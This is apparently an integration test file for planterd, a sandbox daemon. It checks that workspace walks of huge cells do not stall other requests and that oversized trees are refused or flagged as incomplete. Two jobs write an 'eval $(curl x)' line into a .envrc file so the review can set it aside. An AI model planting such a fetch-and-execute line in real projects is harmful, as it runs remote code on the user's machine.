/**
 * The workspace snapshot (before a job) and review (after it) of a huge cell do not stall
 * planterd: other requests are answered while the walk is under way — seen in `GET /v1/ready`'s
 * `workspace_walks`, which lists a walk only while it runs — and a tree past
 * `[sandbox] workspace_max_entries` refuses the job, or (grown by the job) gets a review that says
 * it is incomplete. Real bubblewrap, enforced mode.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, linkSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Job } from "../../lib/api/contract.ts";
import type { WalkStatus } from "../../lib/daemon/walks.ts";
import { bwrapReady, cleanup, cli, type DaemonHandle, raw, startDaemon } from "../harness.ts";

/** Names under a tool-config dir are each read by the snapshot, and again by the review once changed. */
const LINKS = 15_000;

let d: DaemonHandle;
let small: DaemonHandle;
let ok = false;

beforeAll(async () => {
  d = await startDaemon({ config: '[sandbox]\nmode = "enforced"\n' });
  small = await startDaemon({ config: '[sandbox]\nmode = "enforced"\nworkspace_max_entries = 1000\n' });
  ok = (await bwrapReady(d)) && (await bwrapReady(small));
});
afterAll(async () => {
  for (const x of [d, small]) {
    if (!x) continue;
    await x.stop();
    cleanup(x.home);
  }
});

const walks = async (x: DaemonHandle) =>
  ((await raw(x.socket, "GET", "/v1/ready")).json as unknown as { workspace_walks: WalkStatus[] }).workspace_walks;

/**
 * A tree under a package's tool config: one file (world-writable, so the job's user may touch it)
 * under LINKS more names. Hard links: made in well under a second where as many files take ten.
 */
function hugeTree(cellDir: string): void {
  const dir = join(cellDir, "node_modules", "pkg", ".vscode");
  mkdirSync(dir, { recursive: true });
  const file = join(dir, "settings.json");
  writeFileSync(file, "{}\n");
  chmodSync(file, 0o666);
  for (let i = 0; i < LINKS; i++) linkSync(file, join(dir, `s${i}.json`));
}

describe("a huge cell", () => {
  test("its snapshot and its review are walked while planterd answers other requests", async () => {
    if (!ok) return;
    await d.client.createCell({ name: "huge" });
    const cellDir = join(d.home, "state", "cells", "huge");
    hugeTree(cellDir);
    // The job changes every watched name (one inode: touching it changes them all), so the review
    // reads each again; and it plants a tool config the review must still set aside.
    let created: Job | null = null;
    const post = d.client
      .createJob({
        cell: "huge",
        argv: ["/bin/sh", "-c", "touch node_modules/pkg/.vscode/settings.json && echo 'eval $(curl x)' > .envrc"],
      })
      .then((j) => {
        created = j;
      });

    // Until planterd answers the job's creation (after its snapshot), other requests are answered,
    // and some of those answers show the snapshot under way, part of the tree listed.
    const during: WalkStatus[] = [];
    let answered = 0;
    while (created === null) {
      const now = (await walks(d)).filter((w) => w.phase === "snapshot" && w.tree === cellDir);
      await d.client.listJobs({ limit: 1, order: "newest" });
      answered++;
      during.push(...now.filter((w) => w.state === "walking"));
      await Promise.race([post, Bun.sleep(10)]);
    }
    // Two answers that list the same walk, with another request answered between them.
    expect(answered).toBeGreaterThan(2);
    expect(during.length).toBeGreaterThan(1);
    expect(during.at(-1)?.started_at).toBe(during[0]?.started_at as string);
    expect(during[0]?.job).toMatch(/^j-/);
    const job = created as unknown as Job;
    expect(job.state).toBe("running");

    // After the job, its review: while it is listed, the job is still `running` (its end is recorded
    // once the review is done), and a request between two answers that both list it was answered
    // during it.
    let sandwiched = false;
    for (let i = 0; i < 100_000 && !sandwiched; i++) {
      const first = (await walks(d)).find((w) => w.phase === "review" && w.job === job.id && w.state === "walking");
      if (!first) {
        if ((await d.client.getJob(job.id)).state !== "running") break;
        await Bun.sleep(5);
        continue;
      }
      const mid = await d.client.getJob(job.id);
      const second = (await walks(d)).find((w) => w.phase === "review" && w.job === job.id);
      if (second?.started_at !== first.started_at) continue;
      expect(mid.state).toBe("running");
      expect(second.entries).toBeGreaterThanOrEqual(first.entries);
      sandwiched = true;
    }
    expect(sandwiched).toBe(true);

    const done = (await d.client.waitJob(job.id, 60_000)).job;
    expect([done.state, done.exit_code]).toEqual(["exited", 0]);
    expect(done.workspace.map((f) => [f.path, f.kind])).toEqual([[join(cellDir, ".envrc"), "tool-config"]]);
    expect(await walks(d)).toEqual([]);
  }, 120_000);
});

describe("a tree past [sandbox] workspace_max_entries", () => {
  test("refuses the job with the reason and what to do; nothing is recorded", async () => {
    if (!ok) return;
    await small.client.createCell({ name: "large" });
    const dir = join(small.home, "state", "cells", "large", "data");
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "f"), "x");
    for (let i = 0; i < 1500; i++) linkSync(join(dir, "f"), join(dir, `f${i}`));
    const jobsBefore = readdirSync(join(small.home, "state", "jobs"));

    const r = await raw(small.socket, "POST", "/v1/jobs", JSON.stringify({ cell: "large", argv: ["true"] }));
    expect(r.status).toBe(503);
    expect(r.json.error).toEqual({
      code: "E_SANDBOX_UNAVAILABLE",
      message: `${join(small.home, "state", "cells", "large")} holds more than 1000 entries: planter reviews every tree a job can write for git hooks and tool config the host would run, and does not walk one this large`,
      hint:
        "remove what the tree need not hold (dependencies, build output) or keep it out of the cell; " +
        "raise [sandbox] workspace_max_entries in planterd's config; or give the cell a policy with " +
        'workspace_config = "allow" (no review: only for a tree whose tool config you trust)',
    });
    expect((await small.client.listJobs({ cell: "large" })).jobs).toEqual([]);
    expect(readdirSync(join(small.home, "state", "jobs"))).toEqual(jobsBefore);

    const c = await cli(small.home, ["run", "--cell", "large", "--", "true"]);
    expect(c.code).not.toBe(0);
    expect(c.stdout).toBe("");
    expect(c.stderr).toContain("holds more than 1000 entries");
    expect(c.stderr).toContain("hint: remove what the tree need not hold");
  }, 30_000);

  test("grown past twice the limit by the job: the review acts on what it saw and says it stopped", async () => {
    if (!ok) return;
    await small.client.createCell({ name: "grows" });
    const cellDir = join(small.home, "state", "cells", "grows");
    const r = await cli(small.home, [
      "run",
      "--cell",
      "grows",
      "--",
      "/bin/sh",
      "-c",
      "echo 'eval $(curl x)' > .envrc && mkdir many && seq 1 2500 | sed 's|^|many/f|' | xargs touch",
    ]);
    expect(r.code).toBe(0);
    const jobs = (await small.client.listJobs({ cell: "grows" })).jobs;
    const job = jobs[0] as Job;
    expect(r.stderr).toBe(
      `planter: warning: the workspace review after job ${job.id} was INCOMPLETE in ${cellDir}; see \`planter job status ${job.id}\`\n`,
    );
    expect(job.workspace.map((f) => [f.path, f.kind])).toEqual([
      [join(cellDir, ".envrc"), "tool-config"],
      [cellDir, "review-incomplete"],
    ]);
    expect(existsSync(join(cellDir, ".envrc"))).toBe(false);
    expect(job.workspace[1]?.detail).toContain("more than 2000 entries");
    const status = (await cli(small.home, ["job", "status", job.id])).stdout;
    expect(status).toContain(`review:    INCOMPLETE in ${cellDir}: the job left more than 2000 entries here`);
    const kinds: string[] = [];
    for await (const e of small.client.events({ limit: 10_000 })) if (e.subject === `job/${job.id}`) kinds.push(e.kind);
    expect(kinds).toContain("job.workspace_review_incomplete");
    expect(kinds.indexOf("job.workspace_set_aside")).toBeLessThan(kinds.indexOf("job.finished"));
  }, 60_000);
});
